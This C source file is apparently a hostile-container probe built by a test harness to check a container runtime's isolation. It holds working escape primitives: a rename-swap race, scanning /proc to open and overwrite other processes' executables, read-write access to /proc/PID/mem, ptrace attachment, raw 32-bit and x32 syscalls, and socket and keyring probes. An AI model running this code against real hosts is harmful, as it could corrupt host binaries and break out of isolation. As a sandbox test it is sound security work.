/* What a hostile container does to get out: built statically by attacker.py and put into an image.
 *
 *   attack swap A B SECONDS     exchanges two names, over and over
 *   attack watch SECONDS        grabs what it can of each process that comes by, and writes to its program
 *   attack call ABI NR [ARG]…   one system call in a child, by the ABI 64, x32 or 32; says `0` or the error
 *   attack connect NAME         connects to an abstract UNIX socket
 *   attack listen NAME          listens on one
 *   attack ring                 the number and the name of the session's keyring
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int swap(const char *a, const char *b, double seconds) {
    long swaps = 0;
    for (double end = now() + seconds; now() < end;)
        for (int i = 0; i < 100; i++) swaps += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0;
    printf("%ld swaps\n", swaps);
    return swaps == 0;
}

/* Prints each line once. */
static void tell(const char *what, const char *object) {
    static char told[512][300];
    static int count;
    char line[300];
    snprintf(line, sizeof line, "%s %s", what, object);
    for (int i = 0; i < count; i++)
        if (!strcmp(told[i], line)) return;
    if (count < 512) strcpy(told[count++], line);
    puts(line);
    fflush(stdout);
}

static void name_of(int fd, char *name) {
    char path[40];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, name, 200);
    name[length > 0 ? length : 0] = 0;
}

/* Programs of others that were opened, kept until they can be written to: not while they run (ETXTBSY). */
static int programs[64], program_count;

static void comm_of(const char *pid, char *comm) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, comm, 31);
    comm[length > 0 ? length - 1 : 0] = 0;
    if (fd >= 0) close(fd);
}

/* Its effective capabilities and whether it is filtered, if it runs the same program before and after. */
static void rights_of(const char *pid, const char *comm) {
    char path[64], text[4096], after[32], line[100];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0) close(fd);
    text[length > 0 ? length : 0] = 0;
    comm_of(pid, after);
    char *capabilities = strstr(text, "CapEff:"), *filter = strstr(text, "Seccomp:");
    if (!capabilities || !filter || strcmp(comm, after)) return;
    snprintf(line, sizeof line, "%s %.16s %.1s", comm, capabilities + 8, filter + 9);
    tell("rights", line);
}

static void grab_program(const char *pid) {
    char path[64], name[201], comm[32];
    comm_of(pid, comm);
    if (*comm) {
        tell("saw", comm);
        rights_of(pid, comm);
    }
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        if (errno != ENOENT && errno != ESRCH) tell("refused", comm);
        return;
    }
    name_of(fd, name);
    tell("program", name);
    if (strstr(name, "busybox") || strstr(name, "attack") || program_count == 64) close(fd);
    else programs[program_count++] = fd;
}

static void write_programs(void) {
    for (int i = 0; i < program_count; i++) {
        char path[40], name[201];
        snprintf(path, sizeof path, "/proc/self/fd/%d", programs[i]);
        name_of(programs[i], name);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0) continue;
        tell(write(fd, "harm", 4) == 4 ? "overwrote" : "could not write", name);
        close(fd);
    }
}

/* Of a process that runs the same program before and after. */
static void grab_memory(const char *pid) {
    char path[64], before[32], after[32];
    comm_of(pid, before);
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) return;
    comm_of(pid, after);
    if (!strcmp(before, after)) tell("memory", before);
    close(fd);
}

static void grab_files(const char *pid) {
    char path[64], name[201];
    struct stat own, its;
    for (int i = 0; i < 40; i++) {
        snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, i);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        name_of(fd, name);
        // What a process that gets a label writes it through is the container's own /proc, or it is the host's.
        int is_own = fstat(fd, &its) == 0 && stat("/proc", &own) == 0 && own.st_dev == its.st_dev && own.st_ino == its.st_ino;
        close(fd);
        tell("descriptor", is_own ? "own /proc" : name);
    }
    static const char *const links[] = {"root", "cwd"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, links[i]);
        if (stat("/", &own) == 0 && stat(path, &its) == 0 && (own.st_dev != its.st_dev || own.st_ino != its.st_ino)) {
            snprintf(name, sizeof name, "%s %lx:%lu", links[i], (unsigned long)its.st_dev, (unsigned long)its.st_ino);
            tell("foreign", name);
        }
    }
    grab_memory(pid);
    if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) != 0) return;
    ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
    waitpid(atoi(pid), NULL, __WALL);
    comm_of(pid, name);     /* now, when it stands still */
    tell("traced", name);
    ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
}

static int watch(double seconds) {
    int self = getpid();
    tell("watching", "/proc");
    for (double end = now() + seconds; now() < end;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self || (pid == 1 && getppid() == 1)) continue;
            grab_program(entry->d_name);
            grab_files(entry->d_name);
        }
        if (proc) closedir(proc);
        write_programs();
    }
    return 0;
}

#ifdef __x86_64__
static long legacy(long number, long *a) {
    long result;
    register long r8 __asm__("r8") = 0;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]), "D"(a[4]), "r"(r8) : "memory");
    return result;
}
#else
static long legacy(long number, long *a) { return -ENOSYS; }
#endif

static int call(const char *abi, long number, long *a) {
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        long result;
        if (!strcmp(abi, "32")) {
            result = legacy(number, a);
            errno = result < 0 ? -result : 0;
        } else {
            if (!strcmp(abi, "x32")) number |= 0x40000000;
            result = syscall(number, a[0], a[1], a[2], a[3], a[4], a[5]);
        }
        _exit(result < 0 ? errno : 0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) printf("signal %d\n", WTERMSIG(status));
    else puts(WEXITSTATUS(status) ? strerrorname_np(WEXITSTATUS(status)) : "0");
    return 0;
}

static int abstract(const char *name, int listens) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    socklen_t length = sizeof(sa_family_t) + 1 + strlen(name);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (listens && bind(fd, (struct sockaddr *)&address, length) == 0 && listen(fd, 1) == 0) {
        puts("listening");
        fflush(stdout);
        sleep(600);
    }
    if (!listens && connect(fd, (struct sockaddr *)&address, length) == 0) puts("connected");
    else puts(strerrorname_np(errno));
    return 0;
}

static int ring(void) {
    char name[200] = "";
    long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* KEY_SPEC_SESSION_KEYRING */, 0);
    syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, id, name, sizeof name - 1);
    printf("%lx %s\n", id, name);
    return 0;
}

int main(int count, char **words) {
    if (count == 5 && !strcmp(words[1], "swap")) return swap(words[2], words[3], atof(words[4]));
    if (count == 3 && !strcmp(words[1], "watch")) return watch(atof(words[2]));
    if (count == 3 && !strcmp(words[1], "connect")) return abstract(words[2], 0);
    if (count == 3 && !strcmp(words[1], "listen")) return abstract(words[2], 1);
    if (count == 2 && !strcmp(words[1], "ring")) return ring();
    long arguments[6] = {0};
    for (int i = 4; i < count && i < 10; i++) arguments[i - 4] = strtol(words[i], NULL, 0);
    if (count >= 4 && !strcmp(words[1], "call")) return call(words[2], strtol(words[3], NULL, 0), arguments);
    fprintf(stderr, "attack: see the head of attack.c\n");
    return 2;
}
